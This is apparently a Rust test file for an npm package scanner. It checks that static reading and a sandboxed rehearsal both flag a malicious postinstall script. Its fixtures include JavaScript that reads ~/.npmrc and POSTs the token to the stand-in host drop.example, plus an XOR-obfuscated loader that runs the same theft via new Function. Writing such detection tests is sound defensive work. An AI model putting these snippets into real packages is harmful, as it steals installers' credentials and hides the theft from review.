//! What a rehearsal adds to a reading: chains it alone sees, one chain where both see it, and its absence on request.
#![allow(
    clippy::disallowed_methods,
    clippy::unwrap_used,
    reason = "a test that cannot go on says so"
)]
mod common;

use std::{collections::BTreeSet, sync::Arc};

use cleanbill_audits::catalogue::CATALOGUE;
use cleanbill_engine::{CodePorts, Voices, code::read_local};
use cleanbill_facts::{
    Source,
    source::{HostClass, Seen},
};
use cleanbill_model::Level;
use cleanbill_testkit::{MemoryBlobs, TarballBuilder};
use common::Here;

fn read(source: &str, voices: Voices) -> Source {
    let manifest = r#"{"name":"left","version":"1.0.0","homepage":"https://home.example/","scripts":{"postinstall":"node setup.js"}}"#;
    let tarball = TarballBuilder::new()
        .file("package.json", manifest)
        .file("setup.js", source)
        .build()
        .unwrap();
    let code = CodePorts {
        reader: Arc::new(Here),
        stage: Arc::new(Here),
        voices,
        cache: Arc::new(MemoryBlobs::default()),
    };
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    runtime.block_on(read_local(&tarball, &code)).unwrap()
}

const PLAIN: &str = "const fs = require('fs'), os = require('os'), https = require('https');\n\
    const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n\
    const out = https.request({ hostname: 'drop.example', path: '/in', method: 'POST' });\n\
    out.write(token); out.end();\n";

/// No value the code starts from leads a reader to what it does: the words come out of a computation.
const HIDDEN: &str = "let seed = 7; const next = () => (seed = (seed * 16807) % 2147483647);\n\
    const code = []; const text = PLAIN_TEXT;\n\
    for (let at = 0; at < text.length; at++) code.push(String.fromCharCode(text[at] ^ (next() & 255)));\n\
    new Function('require', code.join(''))(require);\n";

fn hidden() -> String {
    let mut seed: u64 = 7;
    let bytes: Vec<String> = PLAIN
        .bytes()
        .map(|byte| {
            seed = seed * 16_807 % 2_147_483_647;
            (u64::from(byte) ^ (seed & 255)).to_string()
        })
        .collect();
    HIDDEN.replace("PLAIN_TEXT", &format!("[{}]", bytes.join(",")))
}

#[test]
fn a_theft_that_both_see_is_one_chain_seen_twice() {
    let both = read(PLAIN, Voices::Both);
    let thefts: Vec<_> = both
        .analysis
        .chains
        .iter()
        .filter(|chain| chain.id == "FLO-01")
        .collect();
    assert_eq!(thefts.len(), 1, "{thefts:#?}");
    assert_eq!((thefts[0].seen, thefts[0].level), (Seen::Twice, Level::Block));
    assert_eq!(thefts[0].host.as_deref(), Some("drop.example"));
    let alone = read(PLAIN, Voices::Static);
    assert!(alone.rehearsal.is_none());
    assert!(alone.analysis.chains.iter().all(|chain| chain.seen == Seen::Read));
}

#[test]
fn a_theft_no_reader_follows_is_seen_on_the_stage() {
    let both = read(&hidden(), Voices::Both);
    let theft = both
        .analysis
        .chains
        .iter()
        .find(|chain| chain.id == "FLO-01")
        .unwrap_or_else(|| panic!("{:#?}", both.rehearsal));
    assert_ne!(theft.seen, Seen::Read);
    assert_eq!(theft.level, Level::Block);
    assert_eq!(theft.host_class, Some(HostClass::Unknown));
}

#[test]
fn the_stage_alone_says_nothing_that_was_only_read() {
    let alone = read(PLAIN, Voices::Rehearsal);
    assert!(!alone.analysis.chains.is_empty());
    assert!(
        alone
            .analysis
            .chains
            .iter()
            .all(|chain| chain.seen == Seen::Rehearsed)
    );
    assert!(alone.analysis.structural.is_empty());
}

#[test]
fn a_download_from_its_own_home_is_no_block() {
    let own = read(
        "const fs = require('fs'), cp = require('child_process');\n\
         require('https').get('https://files.home.example/tool-linux-x64', (answer) => answer.on('data', (data) => { fs.writeFileSync(__dirname + '/tool', data); fs.chmodSync(__dirname + '/tool', 0o755); cp.execFileSync(__dirname + '/tool', ['--version']); }));",
        Voices::Both,
    );
    assert!(
        own.analysis
            .chains
            .iter()
            .all(|chain| chain.level < Level::Quarantine),
        "{:#?}",
        own.analysis.chains
    );
}

#[test]
fn whatever_a_rehearsal_proves_some_audit_tells() {
    let sources = [
        include_str!("../../cleanbill-rehearsal/src/facts.rs"),
        include_str!("../../cleanbill-rehearsal/src/facts/outside.rs"),
        include_str!("../../cleanbill-rehearsal/src/facts/places.rs"),
    ];
    let is_id = |word: &str| {
        word.len() == 6
            && word.get(3..4) == Some("-")
            && word
                .get(..3)
                .is_some_and(|head| head.chars().all(|c| c.is_ascii_uppercase()))
    };
    let ids: BTreeSet<&str> = sources
        .iter()
        .flat_map(|text| text.split('"'))
        .filter(|word| is_id(word))
        .collect();
    assert!(ids.len() > 12, "{ids:?}");
    let told: BTreeSet<&str> = CATALOGUE
        .iter()
        .flat_map(|audit| audit.meta().taxonomy.iter().copied())
        .collect();
    let untold: Vec<&&str> = ids.iter().filter(|id| !told.contains(**id)).collect();
    assert!(untold.is_empty(), "{untold:?}");
}
